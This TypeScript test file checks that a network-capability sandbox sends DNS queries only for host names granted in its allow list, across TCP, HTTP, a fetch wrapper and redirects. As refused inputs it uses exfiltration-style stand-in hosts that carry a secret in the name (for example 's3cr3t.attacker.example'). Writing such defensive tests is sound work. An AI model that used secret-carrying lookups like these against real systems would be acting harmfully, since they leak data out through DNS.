// Class "name resolution outside the grant" (issue 10 §1, address-policy
// invariant 6): a name is resolved only when an allow entry names it at that
// port. A recording resolver sees every query a capability would send; these
// tests check that no query leaves for an ungranted name through any path:
// TCP connect, HTTP, the fetch facade and redirects (listening never resolves).
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import fc from "fast-check";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { makeTcpCap } from "../src/net/net-tcp-cap.js";
import { makeListenCap } from "../src/net/net-listen-cap.js";
import { makeHttpCap } from "../src/http/http-cap.js";
import { makeFetchFacade } from "../src/http/http-fetch-facade.js";
import type { Resolver } from "../src/net/address-resolve.js";

/** A resolver that records every name asked and answers from a fixed table. */
const recordingResolver = (table: Readonly<Record<string, string[]>> = {}) => {
  const asked: string[] = [];
  const resolve: Resolver = async (name) => {
    asked.push(name);
    return table[name] ?? [];
  };
  return { asked, resolve };
};

const failure = async (p: Promise<unknown>): Promise<{ code: string; message: string }> =>
  p.then(
    () => {
      throw new Error("expected a refusal");
    },
    (e: unknown) => ({ code: (e as { code: string }).code, message: (e as Error).message }),
  );

/** Address and range entries only: none of them names a host name. */
const ADDRESS_ENTRIES = [
  "10.0.0.0/8:5432",
  "127.0.0.1:8080",
  "localhost:3000",
  "[::1]:8080",
  "[fc00::/7]:443",
  "0.0.0.0/0:443",
  "::/0",
  "[::ffff:10.0.0.0/104]:5432",
];

describe("TCP: address and range entries never make a name resolvable", () => {
  it("a secret-carrying name is refused before any DNS query, whatever address entries exist", async () => {
    const { asked, resolve } = recordingResolver({ "x.attacker.example": ["10.0.0.5"] });
    const tcp = makeTcpCap({ allow: ADDRESS_ENTRIES, resolve });
    for (const port of [5432, 8080, 3000, 443, 22]) {
      const err = await failure(tcp.connect(`s3cr3t-${port}.attacker.example`, port));
      expect(err.code).toBe("NET_DENIED");
    }
    expect(await failure(tcp.connect("x.attacker.example", 5432))).toMatchInlineSnapshot(`
      {
        "code": "NET_DENIED",
        "message": "connect to x.attacker.example:5432 denied: not in this capability's allow list; grant --allow-net=x.attacker.example:5432 (or allow: ['x.attacker.example:5432']) to allow it.",
      }
    `);
    expect(asked).toEqual([]);
  });

  it("literal addresses still match address entries without any query", async () => {
    const { asked, resolve } = recordingResolver();
    const tcp = makeTcpCap({ allow: ["127.0.0.1:1"], resolve, connectTimeoutMs: 2000 });
    // Port 1 on loopback is closed: the connection is allowed, then fails to connect.
    expect((await failure(tcp.connect("127.0.0.1", 1))).code).toBe("NET_CONNECT_FAILED");
    expect((await failure(tcp.connect("0x7f.1", 1))).code).toBe("NET_CONNECT_FAILED");
    expect(asked).toEqual([]);
  });

  it("a name entry plus a range entry: only the named name is resolved, only at its port", async () => {
    const { asked, resolve } = recordingResolver({ "db.internal": ["127.0.0.9"] });
    const tcp = makeTcpCap({
      allow: ["db.internal:1", "127.0.0.0/8:1", "127.0.0.0/8:2"],
      resolve,
      connectTimeoutMs: 2000,
    });
    // The named name is resolved and may land in the granted range (port 1 is closed).
    expect((await failure(tcp.connect("db.internal", 1))).code).toBe("NET_CONNECT_FAILED");
    // Another name, and the named name at a port its entry lacks: never asked.
    expect((await failure(tcp.connect("other.internal", 1))).code).toBe("NET_DENIED");
    expect((await failure(tcp.connect("db.internal", 2))).code).toBe("NET_DENIED");
    expect(asked).toEqual(["db.internal"]);
  });

  it("a localhost entry resolves the name localhost and nothing under it", async () => {
    const { asked, resolve } = recordingResolver({ localhost: ["127.0.0.1"] });
    const tcp = makeTcpCap({ allow: ["localhost:1"], resolve, connectTimeoutMs: 2000 });
    expect((await failure(tcp.connect("localhost", 1))).code).toBe("NET_CONNECT_FAILED");
    expect((await failure(tcp.connect("evil.localhost", 1))).code).toBe("NET_DENIED");
    expect((await failure(tcp.connect("localhost.evil.example", 1))).code).toBe("NET_DENIED");
    expect(asked).toEqual(["localhost"]);
  });

  it("a deny entry for localhost refuses the name before it is resolved", async () => {
    const { asked, resolve } = recordingResolver({ localhost: ["127.0.0.1"] });
    const tcp = makeTcpCap({ allow: ["*"], deny: ["localhost"], resolve });
    expect((await failure(tcp.connect("localhost", 80))).code).toBe("NET_DENIED");
    expect(asked).toEqual([]);
  });

  it("listening binds literal loopback addresses only: a name is refused, never resolved", () => {
    expect(() => makeListenCap({ host: "localhost" })).toThrow(
      expect.objectContaining({ code: "NET_DENIED" }),
    );
    expect(() => makeListenCap({ host: "secret.attacker.example" })).toThrow(
      expect.objectContaining({ code: "NET_DENIED" }),
    );
  });
});

// ---- property: random names and random entries --------------------------

type Entry =
  | { kind: "name"; name: string; port: number | undefined }
  | { kind: "wildcard"; suffix: string; port: number | undefined }
  | { kind: "any"; port: number | undefined }
  | { kind: "localhost"; port: number | undefined }
  | { kind: "address"; text: string; port: number | undefined };

const label = fc.stringMatching(/^[a-z][a-z0-9]{0,6}$/);
const nameArb = fc
  .array(fc.constantFrom("a", "b", "db", "x", "internal", "example", "localhost"), {
    minLength: 1,
    maxLength: 3,
  })
  .map((labels) => labels.join("."));
const portArb = fc.option(fc.constantFrom(80, 443, 5432), { nil: undefined });
const entryArb: fc.Arbitrary<Entry> = fc.oneof(
  fc.record({ kind: fc.constant("name" as const), name: nameArb, port: portArb }),
  fc.record({ kind: fc.constant("wildcard" as const), suffix: nameArb, port: portArb }),
  fc.record({ kind: fc.constant("any" as const), port: portArb }),
  fc.record({ kind: fc.constant("localhost" as const), port: portArb }),
  fc.record({
    kind: fc.constant("address" as const),
    text: fc.constantFrom("10.0.0.0/8", "127.0.0.1", "[::1]", "0.0.0.0/0", "[fc00::/7]", "1.2.3.4"),
    port: portArb,
  }),
);
const render = (e: Entry): string => {
  const host =
    e.kind === "name"
      ? e.name
      : e.kind === "wildcard"
        ? `*.${e.suffix}`
        : e.kind === "any"
          ? "*"
          : e.kind === "localhost"
            ? "localhost"
            : e.text;
  return e.port === undefined ? host : `${host}:${e.port}`;
};
/** The oracle, from the entry's structure: does it name this host name at this port? */
const names = (e: Entry, name: string, port: number): boolean => {
  if (e.port !== undefined && e.port !== port) return false;
  if (e.kind === "any") return true;
  if (e.kind === "name") return e.name === name;
  if (e.kind === "wildcard") return name.endsWith(`.${e.suffix}`);
  if (e.kind === "localhost") return name === "localhost";
  return false;
};

describe("property: a name is resolved if and only if an allow entry names it", () => {
  it("TCP connect, random names and entries", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(entryArb, { maxLength: 5 }),
        fc.array(entryArb, { maxLength: 2 }),
        fc.oneof(
          nameArb,
          label.map((l) => `${l}.attacker.example`),
        ),
        fc.constantFrom(80, 443, 5432),
        async (allow, deny, name, port) => {
          const { asked, resolve } = recordingResolver();
          // Address entries in deny lists only; a name deny is covered by the deny tests.
          const denyAddr = deny.filter((e) => e.kind === "address");
          const tcp = makeTcpCap({
            allow: allow.map(render),
            deny: denyAddr.map(render),
            resolve,
          });
          await tcp.connect(name, port).then(
            () => {
              throw new Error("the resolver answers nothing, so no connection can open");
            },
            () => undefined,
          );
          const expected = allow.some((e) => names(e, name, port));
          expect(asked).toEqual(expected ? [name] : []);
        },
      ),
      { numRuns: 300 },
    );
  });
});

// ---- HTTP, fetch facade and redirects -------------------------------------

let server: Server;
let port: number;
beforeAll(async () => {
  server = createServer((req, res) => {
    const path = req.url ?? "/";
    if (path.startsWith("/to/")) {
      res.writeHead(302, { location: `http://${path.slice(4)}:${port}/ok` });
      res.end();
      return;
    }
    res.writeHead(200, { "content-type": "text/plain" });
    res.end("ok");
  });
  await new Promise<void>((r) => server.listen({ host: "127.0.0.1", port: 0 }, r));
  port = (server.address() as AddressInfo).port;
});
afterAll(async () => {
  await new Promise<void>((r) => server.close(() => r()));
});

describe("HTTP: only the names of URL prefixes are resolved", () => {
  const make = () => {
    const rec = recordingResolver({ "granted.test": ["127.0.0.1"] });
    const http = makeHttpCap({
      allow: [`http://127.0.0.1:${port}/`, `http://granted.test:${port}/`],
      allowAddresses: ["127.0.0.1", "10.0.0.0/8"],
      resolve: rec.resolve,
    });
    return { ...rec, http };
  };

  it("fetch of an ungranted name is refused before any query", async () => {
    const { asked, http } = make();
    const err = await failure(http.fetch(`http://s3cr3t.attacker.example:${port}/ok`));
    expect(err.code).toBe("HTTP_DENIED");
    expect(asked).toEqual([]);
  });

  it("a granted name is resolved (and reaches the granted loopback address)", async () => {
    const { asked, http } = make();
    const res = await http.fetch(`http://granted.test:${port}/ok`);
    expect(await res.text()).toBe("ok");
    expect(asked).toEqual(["granted.test"]);
  });

  it("a redirect to an ungranted name is refused before any query", async () => {
    const { asked, http } = make();
    const err = await failure(http.fetch(`http://127.0.0.1:${port}/to/s3cr3t.attacker.example`));
    expect(err.message.replaceAll(String(port), "PORT")).toMatchInlineSnapshot(
      `"redirect to GET http://s3cr3t.attacker.example:PORT/ok denied: not under any URL prefix of this capability's allow list; grant --allow-http=http://s3cr3t.attacker.example:PORT/ok (or allow: ['http://s3cr3t.attacker.example:PORT/ok']) to allow it."`,
    );
    expect(err.code).toBe("HTTP_REDIRECT_DENIED");
    expect(asked).toEqual([]);
    // A redirect to the granted name resolves that name only.
    const res = await http.fetch(`http://127.0.0.1:${port}/to/granted.test`);
    expect(await res.text()).toBe("ok");
    expect(asked).toEqual(["granted.test"]);
  });

  it("the fetch facade sends no query for an ungranted name, directly or by redirect", async () => {
    const { asked, http } = make();
    const fetch = makeFetchFacade(http);
    expect((await failure(fetch(`http://leak.attacker.example:${port}/`))).code).toBe(
      "HTTP_DENIED",
    );
    expect((await failure(fetch(`http://127.0.0.1:${port}/to/leak2.attacker.example`))).code).toBe(
      "HTTP_REDIRECT_DENIED",
    );
    expect(asked).toEqual([]);
  });
});
